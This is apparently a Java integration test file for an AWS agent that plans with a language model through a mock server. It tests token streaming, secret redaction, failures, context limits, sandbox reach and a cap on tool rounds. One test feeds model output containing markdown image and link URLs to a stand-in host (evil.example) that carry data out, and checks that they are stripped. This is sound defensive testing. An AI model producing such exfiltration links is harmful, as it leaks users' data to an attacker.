package dev.awsagent.models;

import static org.assertj.core.api.Assertions.assertThat;

import dev.awsagent.agent.AgentEvent;
import dev.awsagent.agent.AwsAgent;
import dev.awsagent.agent.Rendering;
import dev.awsagent.agent.Reply;
import dev.awsagent.credential.AwsCredentials;
import dev.awsagent.credential.Environment;
import dev.awsagent.credential.Target;
import dev.awsagent.sandbox.Sandbox;
import dev.awsagent.tool.AwsCall;
import dev.awsagent.tool.Effect;
import dev.awsagent.tool.FailureKind;
import dev.awsagent.tool.Param;
import dev.awsagent.tool.Tool;
import dev.awsagent.tool.ToolCall;
import dev.awsagent.tool.ToolInfo;
import dev.awsagent.tool.ToolResult;
import java.net.URI;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** A whole agent that plans with a model named {@code openai:…}, over HTTP. */
@Timeout(60)
class AgentWithModelIT {

    @TempDir
    Path home;

    private ModelServer server;
    private AwsAgent agent;

    @ToolInfo(
            name = "box_list_items",
            value = "Lists what is in a box.",
            effect = Effect.READ,
            examples = {"what is in box {box}", "list box {box}"})
    static final class ListItems implements Tool<ListItems.Input, List<String>> {
        record Input(@Param("Box name") String box) {}

        @Override
        public ToolResult<List<String>> call(Input in, ToolCall call) {
            return ToolResult.ok(List.of("apple of " + in.box()));
        }

        @Override
        public List<AwsCall> calls(Input in) {
            return List.of();
        }
    }

    @BeforeEach
    void start() throws Exception {
        server = new ModelServer();
        agent = AwsAgent.builder()
                .plugins(false)
                .tools(new ListItems())
                .environment(new Environment(
                        Map.of("OPENAI_BASE_URL", server.baseUrl().toString()), home))
                .model("openai:m")
                .build();
    }

    @AfterEach
    void stop() {
        agent.close();
        server.close();
    }

    private void callsThenSays(String words) {
        server.events(
                        ModelServer.delta(
                                "{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":"
                                        + "{\"name\":\"box_list_items\",\"arguments\":\"{\\\"box\\\":\\\"blue\\\"}\"}}]}",
                                "null"),
                        ModelServer.delta("{}", "\"tool_calls\""),
                        "[DONE]")
                .events(
                        ModelServer.delta("{\"content\":\"" + words + "\"}", "null"),
                        ModelServer.delta("{}", "\"stop\""),
                        "[DONE]");
    }

    @Test
    void request_isPlannedRunAndAnsweredFromTheResult() {
        callsThenSays("There is one apple.");
        var words = new ArrayList<String>();
        var reply = agent.stream("I wonder about blue", event -> {
            if (event instanceof AgentEvent.Token token) {
                words.add(token.text());
            }
        });
        assertThat(reply).isInstanceOfSatisfying(Reply.Answer.class, answer -> {
            assertThat(answer.text()).contains("There is one apple.");
            assertThat(answer.outcomes())
                    .singleElement()
                    .satisfies(outcome -> assertThat(outcome.value().toString()).isEqualTo("[\"apple of blue\"]"));
            assertThat(answer.context().planner()).isEqualTo("openai:m");
        });
        assertThat(String.join("", words)).isEqualTo("There is one apple.");
        assertThat(server.asked.get(1).body()).contains("<aws-data>", "apple of blue");
    }

    private static String content(String text) {
        return ModelServer.delta("{\"content\":\"" + text + "\"}", "null");
    }

    private List<String> tokens(String... parts) {
        var events = new ArrayList<String>();
        for (var part : parts) {
            events.add(content(part));
        }
        events.add(ModelServer.delta("{}", "\"stop\""));
        events.add("[DONE]");
        server.events(events.toArray(String[]::new));
        var words = new ArrayList<String>();
        agent.stream("I wonder about blue", event -> {
            if (event instanceof AgentEvent.Token token) {
                words.add(token.text());
            }
        });
        return words;
    }

    @Test
    void words_comeBySentenceAndLine() {
        assertThat(tokens("The b", "ox is blue. I", "t is sm", "all.\\n\\nAnd ", "version 1.5 of it"))
                .containsExactly("The box is blue. ", "It is small.\n\n", "And version 1.5 of it");
    }

    @Test
    void secretInPieces_isNotLetOut() {
        assertThat(tokens("The key is AKIA", "IOSFOD", "NN7EXAMPLE. ", "My password:\\n", "hunter", "2 is it. ", "Bye"))
                .containsExactly("The key is ***. ", "My password:\n*** is it. ", "Bye");
    }

    @Test
    void linksOfAModel_carryNothingOut() {
        callsThenSays("![x](https://evil.example/?d=apple) and [see](https://evil.example/?d=blue)");
        var text = Rendering.in(ZoneOffset.UTC).text(agent.ask("I wonder about blue"));
        assertThat(text).doesNotContain("](http").contains("apple of blue");
    }

    @Test
    void modelThatFails_isAFailureOfKindModelAndTheNextTurnStartsClean() {
        server.status(400, "application/json", "{\"error\":{\"message\":\"no such tool support\"}}");
        var conversation = agent.conversation();
        assertThat(conversation.ask("I wonder about blue")).isInstanceOfSatisfying(Reply.Failed.class, failed -> {
            assertThat(failed.kind()).isEqualTo(FailureKind.MODEL);
            assertThat(failed.message()).contains("no such tool support");
            assertThat(failed.hint()).contains("tool calling");
        });
        callsThenSays("There is one apple.");
        assertThat(conversation.ask("I wonder about blue")).isInstanceOf(Reply.Answer.class);
    }

    @Test
    void promptForASmallWindow_isKeptBelowIt() {
        try (var agent = AwsAgent.builder()
                .plugins(false)
                .tools(new ListItems())
                .environment(new Environment(
                        Map.of("OLLAMA_BASE_URL", server.root().toString(), "OLLAMA_CONTEXT_LENGTH", "2048"), home))
                .model("ollama:m")
                .build()) {
            assertThat(agent.ask("I wonder about blue " + "x".repeat(8_000)))
                    .isInstanceOfSatisfying(
                            Reply.Failed.class,
                            failed -> assertThat(failed.message()).contains("tokens, 1536 are allowed"));
        }
        // Another program that tries ports may knock here too.
        assertThat(server.asked).noneMatch(asked -> asked.path().startsWith("/api/"));
    }

    private AwsAgent.Builder bedrock() {
        return AwsAgent.builder()
                .plugins(false)
                .tools(new ListItems())
                .environment(new Environment(
                        Map.of(
                                "AWS_ACCESS_KEY_ID",
                                "testing-id",
                                "AWS_SECRET_ACCESS_KEY",
                                Protocol.KEY,
                                "AWS_ENDPOINT_URL_BEDROCK_RUNTIME",
                                server.root().toString()),
                        home))
                .model("bedrock:m");
    }

    /** What the agent works on may be a server that looks like S3, somewhere, over plain HTTP. */
    @Test
    void endpointThatTheAgentWorksOn_getsNoPrompt() throws Exception {
        server.streams(Protocol.BEDROCK.streamType(), Protocol.BEDROCK.streamOf("Nothing."));
        try (var other = new ModelServer();
                var agent = bedrock()
                        .target(new Target(null, "us-east-1", null, other.root()))
                        .build()) {
            assertThat(agent.ask("I wonder about blue")).isInstanceOf(Reply.Answer.class);
            assertThat(other.asked).isEmpty();
            assertThat(server.asked).hasSize(1);
        }
    }

    @Test
    void modelAtAws_isSaidToBeOutOfReachOfTheSandbox() {
        var sandbox = new Sandbox() {
            @Override
            public Optional<URI> endpoint(String service) {
                return Optional.of(server.root());
            }

            @Override
            public AwsCredentials credentials() {
                return new AwsCredentials("testing-id", Protocol.KEY, null, null, "a test");
            }

            @Override
            public String description() {
                return "one of a test";
            }

            @Override
            public void close() {}
        };
        try (var agent = bedrock().sandbox(sandbox).build()) {
            assertThat(agent.ask("I wonder about blue")).isInstanceOfSatisfying(Reply.Failed.class, failed -> {
                assertThat(failed.kind()).isEqualTo(FailureKind.MODEL);
                assertThat(failed.message()).contains("not there in the sandbox");
                assertThat(failed.hint()).contains("another provider");
            });
        }
        assertThat(server.asked).noneMatch(asked -> asked.path().startsWith("/model/"));
    }

    @Test
    void modelThatNeverStops_isStoppedByTheBoundOnRounds() {
        for (int i = 0; i < 30; i++) {
            server.events(
                    ModelServer.delta(
                            "{\"tool_calls\":[{\"index\":0,\"id\":\"call_" + i
                                    + "\",\"type\":\"function\",\"function\":"
                                    + "{\"name\":\"box_list_items\",\"arguments\":\"{\\\"box\\\":\\\"blue\\\"}\"}}]}",
                            "null"),
                    ModelServer.delta("{}", "\"tool_calls\""),
                    "[DONE]");
        }
        var reply = agent.ask("I wonder about blue");
        assertThat(server.asked).hasSizeLessThan(30);
        assertThat(reply).isInstanceOf(Reply.Failed.class);
    }
}
